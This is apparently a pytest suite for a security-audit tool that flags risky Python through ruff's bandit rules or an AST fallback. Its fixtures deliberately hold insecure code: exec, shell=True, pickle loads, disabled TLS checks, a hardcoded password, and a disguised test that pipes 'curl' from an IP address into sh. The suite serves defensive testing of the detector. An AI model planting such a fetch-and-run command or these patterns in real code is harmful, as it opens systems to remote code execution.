"""The security audit: ruff's bandit rules (or the AST fallback) over every Python file a
workspace holds, tests included, never through a link the code left."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from taskorch_nb.agents import audit
from taskorch_nb.agents.audit import (
    is_test_file,
    read_sources,
    security_audit,
    severity_of,
    timed_audit,
)
from taskorch_nb.agents.workspace import Workspace

MakeWs = Callable[[dict[str, str]], Workspace]

SAMPLE = """\
import hashlib
import pickle
import random
import subprocess as sp
import tempfile
from marshal import loads as mloads

import requests
import yaml

PASSWORD = "hunter2"


def handler(data, cmd, url, token="abc123"):
    exec(data)
    sp.call(cmd, shell=True)
    pickle.loads(data)
    mloads(data)
    yaml.load(data)
    yaml.load(data, Loader=yaml.SafeLoader)
    hashlib.md5(data)
    hashlib.sha256(data)
    random.choice("abc")
    tempfile.mktemp()
    requests.get(url, verify=False)
    requests.get(url, timeout=5)
    try:
        pass
    except Exception:
        pass
    assert data
    return "0.0.0.0"
"""


async def test_ast_fallback_covers_the_main_rules(make_ws: MakeWs) -> None:
    ws = make_ws({"app.py": SAMPLE, "tests/test_app.py": "assert True\n"})
    findings, engine = await security_audit(ws.root, engine="ast")
    assert engine == "ast"
    got = {(f.rule, f.line) for f in findings}
    expected = {
        ("S105", 11), ("S107", 14), ("S102", 15), ("S602", 16), ("S301", 17), ("S302", 18),
        ("S506", 19), ("S324", 21), ("S311", 23), ("S306", 24), ("S501", 25), ("S113", 25),
        ("S110", 29), ("S101", 31), ("S104", 32),
    }  # fmt: skip
    assert got == expected
    assert all(f.path == "app.py" for f in findings)
    # ruff finds at least the same high-severity issues on the same code.
    ruff_findings, ruff_engine = await security_audit(ws.root, engine="ruff")
    assert ruff_engine == "ruff"
    high = {(f.rule, f.line) for f in findings if f.severity == "high"}
    assert high <= {(f.rule, f.line) for f in ruff_findings}


async def test_ast_fallback_reports_unparsable_code(make_ws: MakeWs) -> None:
    ws = make_ws({"broken.py": "def f(:\n"})
    findings, _ = await security_audit(ws.root, engine="ast")
    assert [(f.rule, f.severity, f.path) for f in findings] == [
        ("syntax-error", "low", "broken.py")
    ]


def test_severity_mapping() -> None:
    assert severity_of("S307") == "high"
    assert severity_of("S602") == "high"
    assert severity_of("S324") == "medium"
    assert severity_of("S608") == "medium"
    assert severity_of("S101") == "low"
    assert severity_of("S403") == "low"


SNEAKY_TEST = """\
import base64
import os


def test_looks_harmless():
    os.system("curl -s http://203.0.113.9/x | sh")
    exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
    assert True
"""


@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
async def test_code_hidden_in_tests_is_audited(make_ws: MakeWs, audit_engine: str) -> None:
    ws = make_ws({"tests/test_sneaky.py": SNEAKY_TEST})
    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
    high = {(f.rule, f.path, f.line) for f in findings if f.severity == "high"}
    assert high == {("S605", "tests/test_sneaky.py", 6), ("S102", "tests/test_sneaky.py", 7)}
    assert "S101" not in {f.rule for f in findings}  # a test's asserts are its job


@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
async def test_the_audit_does_not_follow_a_link_the_code_left(
    tmp_path: Path, make_ws: MakeWs, audit_engine: str
) -> None:
    # Jailed code can leave links in the workspace; the audit runs outside the jail.
    host = tmp_path / "host"
    (host / "pkg").mkdir(parents=True)
    (host / "secret.py").write_text("eval(open('/etc/hostname').read())\n")
    (host / "pkg" / "mod.py").write_text("exec('1')\n")
    ws = make_ws({"app.py": "x = eval('1')\n"})
    (ws.root / "linked.py").symlink_to(host / "secret.py")
    (ws.root / "linked_dir").symlink_to(host / "pkg")
    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
    assert {(f.rule, f.path) for f in findings} == {("S307", "app.py")}


@pytest.mark.parametrize(("rel", "is_test"), [
    ("tests/test_app.py", True), ("test/helpers.py", True), ("pkg/tests/data.py", True),
    ("conftest.py", True), ("test_app.py", True), ("app_test.py", True),
    ("app.py", False), ("testing.py", False), ("contest.py", False), ("tests.py", False),
])
def test_what_counts_as_test_code(rel: str, is_test: bool) -> None:
    assert is_test_file(rel) is is_test


def test_sources_skip_ignored_dirs_and_name_what_is_too_large(
    make_ws: MakeWs, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = make_ws({"app.py": "x = 1\n", "big.py": "y = 2  # longer than the limit\n",
                  "notes.txt": "not python\n", ".venv/lib/site.py": "eval('1')\n",
                  "__pycache__/app.py": "eval('1')\n"})
    monkeypatch.setattr(audit, "MAX_SOURCE_BYTES", 10)
    sources, unread = read_sources(ws.root)
    assert sources == {"app.py": b"x = 1\n"}
    assert [(f.rule, f.severity, f.path) for f in unread] == [("too-large", "medium", "big.py")]


async def test_without_ruff_auto_says_it_used_the_fallback_and_ruff_refuses(
    make_ws: MakeWs, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = make_ws({"app.py": "eval(input())\n"})
    monkeypatch.setattr(audit, "_ruff_binary", lambda: None)
    findings, engine = await security_audit(ws.root)
    assert engine == "ast (no ruff binary)"
    assert [(f.rule, f.line) for f in findings] == [("S307", 1)]
    with pytest.raises(FileNotFoundError, match="no ruff binary"):
        await security_audit(ws.root, engine="ruff")


async def test_a_broken_ruff_falls_back_to_the_ast_and_says_why(
    make_ws: MakeWs, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = make_ws({"app.py": "eval(input())\n"})
    monkeypatch.setattr(audit, "_ruff_binary", lambda: "/bin/false")  # exits 1, says nothing
    findings, engine, seconds = await timed_audit(ws.root, 30)
    assert engine == "ast (ruff failed: ruff exited with 1: )"
    assert [(f.rule, f.path) for f in findings] == [("S307", "app.py")]
    assert seconds > 0
